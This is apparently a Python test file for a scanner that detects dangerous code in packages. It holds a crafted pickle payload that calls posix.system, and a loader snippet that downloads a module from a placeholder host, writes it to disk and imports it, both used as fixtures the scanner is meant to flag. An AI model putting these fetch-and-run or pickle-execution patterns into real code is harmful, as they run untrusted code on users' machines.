"""Code that Python brings from files."""

from __future__ import annotations

from collections.abc import Callable

Rules = Callable[..., set[str]]


def test_a_model_that_a_package_loads_is_judged(rules_of: Rules) -> None:
    """A pickle of its own that calls something runs it."""
    code = (
        "import os, pickle\nmodel = pickle.load(open(os.path.join(os.path.dirname(__file__), 'm.bin'), 'rb'))"
    )

    bad = b"cposix\nsystem\n(S'true'\ntR."
    assert "decodes-and-runs" in rules_of({"inert/__init__.py": code, "inert/m.bin": bad}, high=True)
    assert not rules_of({"inert/__init__.py": code, "inert/m.bin": b"(lp0\nI1\na."}, high=True)


def test_a_module_that_was_fetched_and_imported(rules_of: Rules) -> None:
    """The import runs it."""
    code = (
        "import os, sys, importlib, urllib.request\nhere = os.path.dirname(__file__)\n"
        "open(os.path.join(here, '_rt.py'), 'wb').write(urllib.request.urlopen('https://gives.invalid/x').read())\n"
        "sys.path.insert(0, here)\nimportlib.import_module('_rt')"
    )

    assert "runs-downloaded-code" in rules_of(code, high=True)
